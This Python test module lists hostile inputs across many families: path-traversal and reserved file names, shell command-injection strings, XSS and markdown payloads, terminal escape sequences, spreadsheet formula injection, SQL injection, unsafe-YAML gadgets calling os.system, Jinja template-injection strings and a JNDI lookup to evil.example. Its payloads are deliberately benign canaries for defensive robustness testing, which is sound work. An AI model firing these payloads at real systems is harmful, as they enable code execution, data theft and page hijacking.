"""What somebody who means harm writes where a name, a text or an answer is expected.

`CANARY` in a string stands for the path of a file that nothing may make.
"""

#: Names that leave a folder, that some system cannot hold, or that look like another.
NAMES = (
    "..", ".", "../up", "..\\up", "a/../../up", "/etc/passwd", "/tmp/x", "\\\\host\\share", "C:\\x", "C:x", "~", "~root", "$HOME", "%TEMP%",
    "a/b", "a\\b", "a\x00b", "a\nb", "a\tb", "a ", " a", "a.", ".hidden", "-\u200brf", "CON", "con", "PRN", "aux.txt", "NUL", "COM1", "lpt9.log",
    "a" * 101, "a" * 5000, "\u0430dmin", "\uff0e\uff0e\uff0fup", "\u2025/up", "a\u2215b", "a\u202egnp.exe", "\u200b", "caf\u00e9", "e\u0301", "\ufeffa", "a:stream", "a|b", "a>b", "a*",
    "a?", 'a"b', "a'b", "`touch CANARY`", "$(touch CANARY)", "; touch CANARY", "a&b", "<a>", "\ud800",
)  # fmt: skip

_JS = "document.documentElement.id='owned'"
#: Markup that a page, GitHub or a chart would run, follow or be broken by.
MARKUP = (
    f"<script>{_JS}</script>", f"</script><script>{_JS}</script>", f"<img src=x onerror=\"{_JS}\">", f"\"><svg onload=\"{_JS}\">", f"'><body onload='{_JS}'>",
    f"<iframe srcdoc=\"<script>parent.{_JS}</script>\">", f"<a href=\"javascript:{_JS}\">x</a>", f"[x](javascript:{_JS})", f"![x](x\" onerror=\"{_JS})", "<!-- ", "-->", "<![CDATA[",
    "<style>body{display:none}</style>", "<meta http-equiv=refresh content=0;url=http://evil.example>", "<base href=http://evil.example>", "<form action=http://evil.example><input>",
    "&lt;script&gt;", "&#60;script&#62;", "\\<script>", f"<scr<script>ipt>{_JS}</scr</script>ipt>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7 * 7 %>",
    "[x]: http://evil.example", "[x][1]", "[click](http://evil.example \"t\")", "<http://evil.example>", "![](http://evil.example/p.png)", "# heading", "- item", "1. item", "> quote", "| a | b |",
    "|---|---|", "```\ncode", "`code`", "~~~\n", "***", "___", "===", "a  \nb", "\\", "\\\\|", "**b** _i_ ~~s~~", "$x$", "$$x$$", "</main></body></html>", "\u2028" + _JS, "\x00", "\u202eevil",
    "\ud83d", "datum['__proto__']", "<details open ontoggle=\"" + _JS + "\">", "a\r\n\r\n<b>bold</b>", "    indented", "\t<b>", "Setext\n---", "@mention #1", "<x" + " y" * 500 + ">",
)  # fmt: skip

#: What a terminal would obey, or Rich would take for its markup.
TERMINAL = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x9b31m", "a\rb", "a\x08b", "\x07", "[red]x[/red]",
    "[/]", "[/bold]", "[link=http://evil.example]x[/link]", "\u202egnp", "[bold", "\x1bc", ":warning:", "\u2066x\u2069",
)  # fmt: skip

#: What a spreadsheet would calculate, fetch or start.
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=HYPERLINK(\"http://evil.example\";\"x\")", "a;=1+1", "a\t=1+1", "a\n=1+1", "\uff1d1+1",
    "%0A=1", "|calc",
)  # fmt: skip

#: What a query put together from text would run.
SQL = (
    "' OR 1=1 --", "'; DROP TABLE experiments; --", "\" OR \"\"=\"", "x' UNION SELECT * FROM runs --", "%", "_", "\\'; --", "1; ATTACH DATABASE 'CANARY' AS x",
)  # fmt: skip

#: YAML that other readers make objects of.
YAML = (
    "!!python/object/apply:os.system ['touch CANARY']", "!!python/object/new:os.system ['touch CANARY']", "!!python/name:os.system ''", "!!python/module:os ''",
    "!!python/object/apply:subprocess.Popen [[touch, CANARY]]", "!!python/object/apply:builtins.eval [\"open('CANARY', 'w')\"]", "!!ruby/object:Gem::Installer {}", "!!binary aGk=",
    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch CANARY']", "!!java/object x",
)  # fmt: skip

#: Chat templates that reach for the system.
TEMPLATES = (
    "{{ cycler.__init__.__globals__.os.system('touch CANARY') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ messages.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{% for x in %}",
)

#: Rows whose text looks like a program to one of the steps between a file and a token.
ROWS = (
    "{instruction.__class__.__mro__}", "{0}", "%(name)s", "{{ 7 * 7 }}", "__import__('os').system('touch CANARY')", "$(touch CANARY)", "`touch CANARY`", "${jndi:ldap://evil.example}",
)  # fmt: skip
